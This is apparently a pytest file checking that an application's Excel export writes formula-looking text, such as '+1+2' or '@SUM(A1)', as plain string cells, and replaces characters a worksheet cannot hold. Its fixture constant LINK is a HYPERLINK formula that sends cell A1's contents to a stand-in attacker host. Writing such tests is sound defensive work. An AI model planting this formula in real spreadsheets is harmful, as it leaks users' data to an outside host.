"""The Excel export writes text as text: no live formula, and any character the store holds."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from application.app import Comptoir
from application.journal import CommandContext
from interfaces.export import export_views, write_workbook
from interfaces.settings import Settings

AT = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'


@pytest.fixture
def app(settings: Settings) -> Iterator[Comptoir]:
    app = Comptoir(settings.eventstore_env())
    yield app
    app.close()


def sheet_xml(path: Path, name: str) -> str:
    """The raw XML of a worksheet, to see what Excel will read."""
    book = load_workbook(path, read_only=True)
    index = book.sheetnames.index(name) + 1
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode()


def test_a_formula_looking_prospect_is_exported_as_a_plain_string_cell(
    app: Comptoir, tmp_path: Path
) -> None:
    ctx = CommandContext(actor="alice", at=AT)
    app.quotes.draft(ctx, currency="EUR", prospect=LINK)
    written = export_views(app, tmp_path / "export", excel=True)
    assert written.excel is not None
    sheet = load_workbook(written.excel)["quotes"]
    column = [c.value for c in sheet[1]].index("prospect") + 1
    cell = sheet.cell(row=2, column=column)
    assert cell.value == LINK
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert "<f>" not in sheet_xml(written.excel, "quotes")


@pytest.mark.parametrize("text", ["+1+2", "-1-2", "@SUM(A1)", "\t=1", "\r=1", "#N/A"])
def test_every_formula_leading_character_is_written_as_text(text: str, tmp_path: Path) -> None:
    con = duckdb.connect()
    con.execute("CREATE TABLE names (name VARCHAR, amount DECIMAL(18, 4))")
    con.execute("INSERT INTO names VALUES (?, ?)", [text, Decimal("-3.5")])
    path = write_workbook(con, ["names"], tmp_path / "names.xlsx")
    sheet = load_workbook(path)["names"]
    # a carriage return reads back as a line feed, or as itself where lxml writes the cell
    assert sheet["A2"].value in {text, text.replace("\r", "\n")}
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix  # Excel keeps it text even when the cell is edited
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-3.5, "n")  # numbers stay numbers


def test_characters_a_worksheet_cannot_hold_are_replaced_and_the_row_is_exported(
    tmp_path: Path,
) -> None:
    con = duckdb.connect()
    con.execute("CREATE TABLE names (name VARCHAR)")
    con.execute("INSERT INTO names VALUES (?), (?)", ["bad\x01name\x1f", "fine"])
    path = write_workbook(con, ["names"], tmp_path / "names.xlsx")
    sheet = load_workbook(path)["names"]
    assert [c.value for c in sheet["A"]] == ["name", "bad\ufffdname\ufffd", "fine"]
